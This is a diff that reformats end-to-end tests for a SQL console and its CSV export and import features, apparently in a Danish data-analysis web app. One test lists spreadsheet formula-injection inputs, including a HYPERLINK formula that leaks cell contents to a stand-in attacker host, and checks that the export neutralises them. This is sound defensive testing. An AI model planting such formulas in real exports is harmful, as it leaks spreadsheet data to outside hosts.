@@ -66,7 +66,9 @@ describe('SQL console and exports', () => {
 
     // A query over the demo data returns the same total as figure-reported.
     await typeQuery(page, "SELECT sum(annual_gain_dkk) AS total FROM reported_gains WHERE status = 'realised'");
-    expect(await page.getByTestId('sql-editor').textContent()).toBe("SELECT sum(annual_gain_dkk) AS total FROM reported_gains WHERE status = 'realised'");
+    expect(await page.getByTestId('sql-editor').textContent()).toBe(
+      "SELECT sum(annual_gain_dkk) AS total FROM reported_gains WHERE status = 'realised'",
+    );
     expect(await runAndCount(page)).toBe(1);
     const total = num(await page.getByTestId('sql-result').locator('[data-value]').first().getAttribute('data-value'));
     expect(total).toBeCloseTo(figure, 2);
@@ -109,7 +111,7 @@ describe('SQL console and exports', () => {
     await error.waitFor();
     expect(await error.getAttribute('data-kind')).toBe('refused');
     expect(await error.textContent()).toMatch(/reported_gains/);
-    await typeQuery(page, "CREATE TABLE my_themes AS SELECT DISTINCT theme FROM reported_gains; SELECT * FROM my_themes");
+    await typeQuery(page, 'CREATE TABLE my_themes AS SELECT DISTINCT theme FROM reported_gains; SELECT * FROM my_themes');
     expect(await runAndCount(page)).toBeGreaterThan(1);
     await page.getByTestId('sql-schema').locator('[data-table="my_themes"]').waitFor();
     await typeQuery(page, 'SELECT * FROM reported_gains');
@@ -135,8 +137,14 @@ describe('SQL console and exports', () => {
     await page.getByRole('link', { name: /SQL/ }).click();
     await page.getByTestId('sql-editor').waitFor();
     const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,1)', '-1+2', '@cmd', '\t=1+1', '\r=2+2'];
-    const values = hostile.map((h, i) => `(${`'${h.replaceAll("'", "''")}'`.replace('\t', "' || chr(9) || '").replace('\r', "' || chr(13) || '")}, ${i % 2 === 0 ? -12.5 - i : i})`);
-    const n = await runSql(page, `CREATE OR REPLACE TABLE hostile AS SELECT * FROM (VALUES ${values.join(', ')}) t(label, amount); SELECT * FROM hostile ORDER BY amount`);
+    const values = hostile.map(
+      (h, i) =>
+        `(${`'${h.replaceAll("'", "''")}'`.replace('\t', "' || chr(9) || '").replace('\r', "' || chr(13) || '")}, ${i % 2 === 0 ? -12.5 - i : i})`,
+    );
+    const n = await runSql(
+      page,
+      `CREATE OR REPLACE TABLE hostile AS SELECT * FROM (VALUES ${values.join(', ')}) t(label, amount); SELECT * FROM hostile ORDER BY amount`,
+    );
     expect(n).toBe(hostile.length);
     const csv = readFileSync((await exportAs(page, 'sql-export', 'csv-da')).path, 'utf8').replace(/^\uFEFF/, '');
     for (const h of hostile) expect(csv).toContain(`'${h.replaceAll('"', '""')}`);
@@ -155,7 +163,9 @@ describe('SQL console and exports', () => {
     // Round trip: a query exported as CSV (Danish ; and ,) imports as a new data set with the same totals.
     await page.getByTestId('sql-examples').selectOption('canonical-rows');
     await page.getByTestId('sql-run').click();
-    await expect.poll(() => page.getByTestId('sql-rowcount').getAttribute('data-value').then(Number), { timeout: 60000 }).toBeGreaterThan(100);
+    await expect
+      .poll(() => page.getByTestId('sql-rowcount').getAttribute('data-value').then(Number), { timeout: 60000 })
+      .toBeGreaterThan(100);
     const rows = Number(await page.getByTestId('sql-rowcount').getAttribute('data-value'));
     for (const format of ['csv-da', 'csv']) {
       const file = await exportAs(page, 'sql-export', format);
@@ -163,7 +173,9 @@ describe('SQL console and exports', () => {
       expect(file.name).toMatch(/^query_made-spir-demo-[0-9a-f]{8}_damvad-2017_\d{4}-\d{2}-\d{2}_v\d+\.\d+\.\d+\.csv$/);
       const bytes = readFileSync(file.path);
       expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-      expect(bytes.toString('utf8').split('\r\n')[0]).toContain(format === 'csv-da' ? 'project_id;project_title' : 'project_id,project_title');
+      expect(bytes.toString('utf8').split('\r\n')[0]).toContain(
+        format === 'csv-da' ? 'project_id;project_title' : 'project_id,project_title',
+      );
 
       await page.getByTestId('import-file').setInputFiles(file.path);
       const summary = page.getByTestId('import-summary');
@@ -176,7 +188,9 @@ describe('SQL console and exports', () => {
       await summary.waitFor({ state: 'hidden' });
     }
     await page.getByRole('link', { name: /Overblik|Overview/ }).click();
-    await expect.poll(() => page.getByTestId('figure-reported').getAttribute('data-value').then(Number), { timeout: 60000 }).toBeCloseTo(figure, 2);
+    await expect
+      .poll(() => page.getByTestId('figure-reported').getAttribute('data-value').then(Number), { timeout: 60000 })
+      .toBeCloseTo(figure, 2);
     expect(await page.getByTestId('dataset-select').inputValue()).not.toBe('demo');
 
     // Back in the console.
@@ -188,7 +202,9 @@ describe('SQL console and exports', () => {
     await typeQuery(page, 'SELECT count(*) FROM range(20000000000) t(i) WHERE i % 7 = 3');
     await page.getByTestId('sql-run').click();
     await page.getByTestId('sql-running').waitFor();
-    await page.waitForFunction(() => (globalThis as unknown as { __spilloverDb: DebugDb }).__spilloverDb.busy, null, { timeout: 60000 });
+    await page.waitForFunction(() => (globalThis as unknown as { __spilloverDb: DebugDb }).__spilloverDb.busy, null, {
+      timeout: 60000,
+    });
     await page.getByTestId('sql-cancel').click();
     await error.waitFor({ timeout: 60000 });
     expect(await error.getAttribute('data-kind')).toBe('cancelled');
